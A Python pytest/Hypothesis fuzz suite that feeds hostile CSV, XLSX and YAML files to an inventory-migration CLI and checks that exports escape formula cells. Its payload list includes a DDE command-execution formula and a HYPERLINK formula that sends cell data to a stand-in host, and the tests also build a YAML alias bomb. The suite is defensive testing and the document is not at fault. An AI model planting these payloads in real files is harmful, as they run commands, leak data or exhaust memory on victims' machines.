"""Hostile files fed to every importer: each gets a clear error or a clean import, never a
traceback, a failed one changes nothing, and no cell ever leaves as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlmodel import Session

from inventory.models import Department, Node, System
from inventory.settings import Settings
from migrate.models import Dependency, MigrationEvent, Plan, SystemMigration, Wave
from tests.hardening.conftest import FUZZ_EXAMPLES, Cli
from tests.migrate.estate import SYSTEMS, seed_migration_estate

FUZZ = settings(
    max_examples=FUZZ_EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
# A cell starting with one of these is a formula to Excel and LibreOffice (CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"详情")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "=1+1",
]
# Cells people and attackers type: formulas, control characters, huge ones, odd Unicode.
hostile_text = st.one_of(
    st.sampled_from(FORMULAS),
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=20),
    st.sampled_from(["\x00", "a\x00b", "\ufeff", "\u202e\u2066", "  ", "𠀀𪚥", "'" + FORMULAS[0]]),
    st.integers(min_value=1_000, max_value=40_000).map(lambda n: "长" * n),
)
ENCODINGS = ["utf-8", "utf-8-sig", "gb18030", "utf-16", "latin-1", "shift_jis", "cp1252", "big5"]


def assert_no_formula(text: str) -> None:
    """Every cell of a CSV document stays text when a spreadsheet opens it."""
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"unescaped formula cell {cell!r}"


def dump(engine: sa.Engine, *models: type) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of the given tables, for before/after comparison."""
    found = {}
    with engine.connect() as connection:
        for model in models:
            table = model.__table__  # type: ignore[attr-defined]
            rows = connection.execute(sa.select(table)).all()
            found[table.name] = sorted((tuple(map(repr, row)) for row in rows), key=str)
    return found


def write_csv(path: Path, rows: list[list[str]], encoding: str) -> Path:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding, errors="replace"))
    return path


def write_xlsx(path: Path, rows: list[list[Any]]) -> Path:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        # XML cannot carry control characters: a spreadsheet program never saves them.
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", c) if isinstance(c, str) else c for c in row])
    # openpyxl takes "=…" for a formula; a department's sheet holds it as typed text.
    for cells in sheet.iter_rows():
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    workbook.save(path)
    return path


def fuzz_path(tmp_path: Path, suffix: str) -> Path:
    return tmp_path / f"in-{uuid.uuid4().hex[:8]}{suffix}"


@pytest.fixture
def ledger(engine: sa.Engine, settings: Settings, db_url: str) -> str:
    return db_url


# --- the register --------------------------------------------------------------------------

REGISTER = Department, System
HEADERS = ["系统编码", "系统名称", "部门编码", "主管部门", "地市", "是否涉密", "等保级别",
           "联系人", "豁免原因", "批准文号", "有效期至", "生命周期"]  # fmt: skip


def mostly(valid: list[str], invalid: list[str]) -> st.SearchStrategy[str]:
    """Valid values three times in four, so that many registers import and reach the exports."""
    return st.sampled_from(valid * 3 + invalid)


@st.composite
def register_rows(draw: st.DrawFn) -> list[list[str]]:
    """A register whose enumerated cells are mostly valid and whose free text is hostile."""
    rows = [list(HEADERS)]
    for n in range(draw(st.integers(min_value=1, max_value=4))):
        exempt = draw(st.booleans())
        rows.append(
            [
                draw(mostly([f"FZ-{n:03d}"], [FORMULAS[0], "", "\x00"])),
                draw(hostile_text),
                f"FZ-D{n}",
                draw(hostile_text),
                draw(mostly(["省级", "南京", "苏州市"], ["上海", FORMULAS[0]])),
                draw(mostly(["是", "否"], ["maybe"])),
                draw(mostly(["三级", "2", "第五级"], ["9"])),
                draw(hostile_text),
                draw(hostile_text) if exempt else "",
                draw(hostile_text) if exempt else "",
                draw(mostly(["2030-01-01"], ["2030/13/40", "=TODAY()"])) if exempt else "",
                draw(mostly(["在用", ""], ["=1"])),
            ]
        )
    return rows


def import_register(cli: Cli, db_url: str, path: Path, errors: Path) -> int:
    code, out, err = cli(
        "--db", db_url, "registry", "import", str(path), "--errors-out", str(errors)
    )
    assert code in (0, 1, 2), out + err
    if code:
        assert "error" in err or "problem" in err, err
    return code


@FUZZ
@given(rows=register_rows(), encoding=st.sampled_from(ENCODINGS), as_xlsx=st.booleans())
def test_register_import_of_hostile_cells(
    ledger: str,
    engine: sa.Engine,
    cli: Cli,
    tmp_path: Path,
    rows: list[list[str]],
    encoding: str,
    as_xlsx: bool,
) -> None:
    path = (
        write_xlsx(fuzz_path(tmp_path, ".xlsx"), rows)
        if as_xlsx
        else write_csv(fuzz_path(tmp_path, ".csv"), rows, encoding)
    )
    errors = tmp_path / "problems.csv"
    errors.unlink(missing_ok=True)
    before = dump(engine, *REGISTER)

    code = import_register(cli, ledger, path, errors)

    if code:
        assert dump(engine, *REGISTER) == before
    if code == 1:
        assert_no_formula(errors.read_text(encoding="utf-8-sig"))
    if code == 0:  # what was imported leaves the export as text, never as a formula
        listed_code, listed, _ = cli(
            "--db", ledger, "registry", "list", "--format", "csv", "--include-classified"
        )
        assert listed_code == 0
        assert_no_formula(listed)


@FUZZ
@given(payload=st.binary(max_size=4096), suffix=st.sampled_from([".csv", ".xlsx"]))
def test_register_import_of_random_bytes(
    ledger: str, engine: sa.Engine, cli: Cli, tmp_path: Path, payload: bytes, suffix: str
) -> None:
    path = fuzz_path(tmp_path, suffix)
    path.write_bytes(payload)
    before = dump(engine, *REGISTER)

    code = import_register(cli, ledger, path, tmp_path / "problems.csv")

    assert code == 1  # nothing in random bytes is a register
    assert dump(engine, *REGISTER) == before


def valid_workbook(tmp_path: Path) -> bytes:
    rows = [HEADERS[:7], ["FZ-1", "系统", "FZ-D1", "部门", "南京", "否", "三级"]]
    return write_xlsx(tmp_path / "valid.xlsx", rows).read_bytes()


@st.composite
def damaged_workbooks(draw: st.DrawFn, workbook: bytes) -> bytes:
    """A real workbook with a few bytes of one part changed, or a part left out."""
    source = zipfile.ZipFile(io.BytesIO(workbook))
    names = source.namelist()
    victim = draw(st.sampled_from(names))
    dropped = draw(st.sampled_from([None, *names]))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as target:
        for name in names:
            if name == dropped:
                continue
            data = bytearray(source.read(name))
            if name == victim and data:
                for _ in range(draw(st.integers(min_value=1, max_value=4))):
                    data[draw(st.integers(0, len(data) - 1))] = draw(st.integers(0, 255))
            target.writestr(name, bytes(data))
    return output.getvalue()


# openpyxl warns about the damage it reads past; the import's own verdict is what counts.
@pytest.mark.filterwarnings("ignore::UserWarning")
def test_register_import_of_damaged_workbooks(
    ledger: str, engine: sa.Engine, cli: Cli, tmp_path: Path
) -> None:
    workbook = valid_workbook(tmp_path)

    @FUZZ
    @given(payload=damaged_workbooks(workbook))
    def damaged(payload: bytes) -> None:
        path = fuzz_path(tmp_path, ".xlsx")
        path.write_bytes(payload)
        before = dump(engine, *REGISTER)
        code = import_register(cli, ledger, path, tmp_path / "problems.csv")
        if code:
            assert dump(engine, *REGISTER) == before

    damaged()


# --- the node file -------------------------------------------------------------------------

VALID_NODE = {
    "id": "edu-dc",
    "name": "省教育厅部门云",
    "level": "department_cloud",
    "one_cloud": False,
    "owner_department": "JS-EDU",
    "frozen_since": "2022-04-04",
    "capacity": {"vcpu": 100, "memory_gib": 400},
    "sources": [{"kind": "aws", "endpoint_url": "http://10.1.2.3:9000", "regions": ["edu-1"]}],
}
yaml_scalars = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(), hostile_text, st.dates(),
    st.sampled_from(["aws", "kubernetes", "k8s", "AKIAIOSFODNN7EXAMPLE", "http://u:p@h/"]),
)  # fmt: skip
yaml_values = st.recursive(
    yaml_scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(yaml_scalars, inner, max_size=3),
    max_leaves=8,
)
NODE_KEYS = [*VALID_NODE, "mlps_level", "zones", "city", "system_tag", "secret_key", "tokens"]
SOURCE_KEYS = ["kind", "endpoint_url", "regions", "profile", "ca_bundle", "context",
               "kubeconfig", "namespaces", "services", "max_attempts", "password"]  # fmt: skip


@st.composite
def node_documents(draw: st.DrawFn) -> str:
    """A node file: a valid one with some values replaced by anything YAML can hold, or text."""
    node = json.loads(json.dumps(VALID_NODE))
    for _ in range(draw(st.integers(0, 4))):
        node[draw(st.sampled_from(NODE_KEYS))] = draw(yaml_values)
    if draw(st.booleans()) and isinstance(node.get("sources"), list) and node["sources"]:
        source = node["sources"][0]
        if isinstance(source, dict):
            source[draw(st.sampled_from(SOURCE_KEYS))] = draw(yaml_values)
    document: Any = {"nodes": [node] * draw(st.integers(1, 2))}
    if draw(st.integers(0, 9)) == 0:
        document = draw(yaml_values)
    text = yaml.safe_dump(document, allow_unicode=True, sort_keys=False)
    if draw(st.integers(0, 4)) == 0:
        cut = draw(st.integers(0, len(text)))
        text = text[:cut] + draw(st.text(max_size=10)) + text[cut:]
    return text


@FUZZ
@given(text=node_documents(), encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030"]))
def test_node_file_of_anything(
    ledger: str, engine: sa.Engine, cli: Cli, tmp_path: Path, text: str, encoding: str
) -> None:
    path = fuzz_path(tmp_path, ".yaml")
    path.write_bytes(text.encode(encoding, errors="replace"))
    before = dump(engine, Node)

    code, out, err = cli("--db", ledger, "nodes", "apply", str(path))

    assert code in (0, 1, 2), out + err
    if code:
        assert dump(engine, Node) == before
    else:
        listed_code, listed, _ = cli("--db", ledger, "nodes", "list", "--format", "csv")
        assert listed_code == 0
        assert_no_formula(listed)


# --- the migration files: dependencies and an edited plan ---------------------------------

CODES = sorted(SYSTEMS)
MIGRATION = Dependency, Plan, Wave, SystemMigration, MigrationEvent


@pytest.fixture
def planned(ledger: str, engine: sa.Engine, settings: Settings, cli: Cli) -> str:
    with Session(engine) as session:
        seed_migration_estate(session, settings.today())
    with engine.begin() as connection:  # a system whose name is an attack on the export
        connection.execute(sa.update(System).where(System.code == "A01").values(name=FORMULAS[0]))
    code, out, err = cli(
        "--db", ledger, "migrate", "plan", "create", "--source", "edu-dc", "--source", "room",
        "--target", "core", "--name", "p1", "--max-systems-per-wave", "2",
        "--start", "2027-01-04", "--by", "planner",
    )  # fmt: skip
    assert code == 0, out + err
    return ledger


def sheet(draw: st.DrawFn, rows: list[list[str]], tmp_path: Path) -> Path:
    """The rows as CSV in some encoding, as XLSX, or (rarely) as random bytes."""
    form = draw(st.sampled_from(["csv", "csv", "xlsx", "bytes"]))
    if form == "xlsx":
        return write_xlsx(fuzz_path(tmp_path, ".xlsx"), rows)
    path = fuzz_path(tmp_path, ".csv")
    if form == "bytes":
        path.write_bytes(draw(st.binary(max_size=512)))
        return path
    return write_csv(path, rows, draw(st.sampled_from(ENCODINGS)))


@FUZZ
@given(data=st.data())
def test_dependency_file_of_anything(
    planned: str, engine: sa.Engine, cli: Cli, tmp_path: Path, data: st.DataObject
) -> None:
    code_or_junk = st.sampled_from(CODES) | hostile_text
    rows = [
        data.draw(
            st.sampled_from(
                [
                    ["from", "to", "type", "strength"],
                    ["依赖方", "被依赖方", "依赖类型", "依赖强度"],
                    ["from", "type"],
                ]
            )
        )
    ]
    for _ in range(data.draw(st.integers(0, 5))):
        rows.append(
            [
                data.draw(code_or_junk),
                data.draw(code_or_junk),
                data.draw(st.sampled_from(["calls", "数据", "shared_infra"]) | hostile_text),
                data.draw(st.sampled_from(["hard", "弱", ""]) | hostile_text),
            ]
        )
    path = sheet(data.draw, rows, tmp_path)
    before = dump(engine, *MIGRATION)

    code, out, err = cli("--db", planned, "migrate", "deps", "import", str(path))

    assert code in (0, 1, 2), out + err
    if code:
        assert dump(engine, *MIGRATION) == before


WAVES = st.one_of(
    st.integers(min_value=-3, max_value=12).map(str),
    st.sampled_from(["", "1.0", "2.5", "1e3", "1e18", "1e400", "nan", "inf", "９", "一"]),
    st.integers(min_value=10**5, max_value=10**30).map(str),
    hostile_text,
)


def test_plan_import_of_anything(planned: str, engine: sa.Engine, cli: Cli, tmp_path: Path) -> None:
    exported = cli("--db", planned, "migrate", "plan", "export", "p1")[1]
    header, *plan_rows = list(csv.reader(io.StringIO(exported)))
    wave = header.index("wave")

    @FUZZ
    @given(data=st.data())
    def edited(data: st.DataObject) -> None:
        rows = [header] + [list(row) for row in plan_rows]
        for row in rows[1:]:
            if data.draw(st.booleans()):
                row[wave] = data.draw(WAVES)
        if data.draw(st.integers(0, 4)) == 0:
            rows.append([data.draw(hostile_text) for _ in header])
        path = sheet(data.draw, rows, tmp_path)
        before = dump(engine, *MIGRATION)

        code, out, err = cli(
            "--db", planned, "migrate", "plan", "import", "p1", str(path), "--by", "x"
        )

        assert code in (0, 1, 2), out + err
        if code:
            assert dump(engine, *MIGRATION) == before
        else:  # re-explained by hand: the export must stay as safe as before
            assert_no_formula(cli("--db", planned, "migrate", "plan", "export", "p1")[1])

    edited()


def test_formula_cells_leave_every_export_escaped(planned: str, cli: Cli, tmp_path: Path) -> None:
    """The hostile name of A01 and a hostile register cell, through each CSV the CLI writes."""
    errors = tmp_path / "problems.csv"
    register = write_csv(
        tmp_path / "register.csv",
        [HEADERS[:7], [FORMULAS[0], FORMULAS[2], "D1", FORMULAS[4], FORMULAS[0], "=1", "三级"]],
        "utf-8",
    )
    assert import_register(cli, planned, register, errors) == 1
    exports: list[Callable[[], str]] = [
        lambda: errors.read_text(encoding="utf-8-sig"),
        lambda: cli("--db", planned, "registry", "list", "--format", "csv")[1],
        lambda: cli("--db", planned, "migrate", "plan", "export", "p1")[1],
        lambda: cli("--db", planned, "migrate", "plan", "show", "p1", "--format", "csv")[1],
        lambda: cli("--db", planned, "report", "adoption", "--by", "node", "--format", "csv")[1],
    ]
    texts = [export() for export in exports]
    assert FORMULAS[0] in texts[0].replace("'=", "=")  # the value is kept, only escaped
    assert any("'" + FORMULAS[0] in text for text in texts[1:3])
    for text in texts:
        assert_no_formula(text)


@pytest.mark.parametrize("wave", ["13", "100000", "1e6", "1e18", "-1", "0"])
def test_plan_import_refuses_absurd_wave_numbers(
    planned: str, engine: sa.Engine, cli: Cli, tmp_path: Path, wave: str
) -> None:
    """A wave beyond the plan's size once created every wave up to it (1e18: forever) or
    overflowed the wave dates with a traceback."""
    rows = list(csv.reader(io.StringIO(cli("--db", planned, "migrate", "plan", "export", "p1")[1])))
    rows[1][rows[0].index("wave")] = wave
    path = write_csv(tmp_path / "edited.csv", rows, "utf-8")
    before = dump(engine, *MIGRATION)

    code, _, err = cli("--db", planned, "migrate", "plan", "import", "p1", str(path), "--by", "x")

    assert code == 1
    assert f"wave {wave!r}: wave must be a whole number from 1 to" in err
    assert dump(engine, *MIGRATION) == before


# --- inputs that once crashed or hung an importer, kept as plain cases ---------------------

NODE_HEAD = "nodes:\n  - id: edu-dc\n    level: server_room\n    one_cloud: false\n"
BOMB = "".join(
    [f"a0: &a0 [{', '.join(['lol'] * 9)}]\n"]
    + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 9)]
    + ["nodes: [*a8]\n"]
)


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        (NODE_HEAD + "    name: a\x1fb\n", "character U+001F is not allowed"),
        (NODE_HEAD + '    name: "a\\0b"\n', "NUL character"),
        (NODE_HEAD + '    name: x\n    zones: ["z\\0"]\n', "NUL character"),
        ("nodes: &loop [*loop]\n", "refers to a value that contains the alias"),
        (BOMB, "expand the file to more than"),
        ("nodes: " + "[" * 3000 + "]" * 3000 + "\n", "nested too deeply"),
        (
            NODE_HEAD + "    name: x\n    sources: [{kind: aws, endpoint_url: 'http://h:1', "
            "regions: [r], services: [[]]}]\n",
            "services[0]: must be one of 'ec2'",
        ),
    ],
    ids=[
        "control",
        "nul-escape",
        "nul-in-list",
        "recursive-alias",
        "alias-bomb",
        "deep-nesting",
        "list-as-service",
    ],
)
def test_node_files_that_once_crashed_or_hung_get_a_clear_error(
    ledger: str, engine: sa.Engine, cli: Cli, tmp_path: Path, text: str, complaint: str
) -> None:
    path = tmp_path / "nodes.yaml"
    path.write_text(text, encoding="utf-8")
    before = dump(engine, Node)

    code, _, err = cli("--db", ledger, "nodes", "apply", str(path))

    assert code == 1
    assert complaint in err
    assert dump(engine, Node) == before


@pytest.mark.parametrize("column", [1, 3, 7], ids=["name", "department", "contact"])
def test_register_cell_with_a_nul_character_gets_a_clear_error(
    ledger: str, engine: sa.Engine, cli: Cli, tmp_path: Path, column: int
) -> None:
    """PostgreSQL refuses NUL in text: the import once died there with a traceback."""
    row = ["FZ-1", "系统", "FZ-D1", "部门", "南京", "否", "三级", "联系人"]
    row[column] = "a\x00b"
    path = write_csv(tmp_path / "register.csv", [HEADERS[:8], row], "utf-8")
    before = dump(engine, *REGISTER)

    code, _, err = cli("--db", ledger, "registry", "import", str(path))

    assert code == 1
    assert f"row 2, {HEADERS[column]} 'a\u2400b': holds a NUL character" in err
    assert dump(engine, *REGISTER) == before
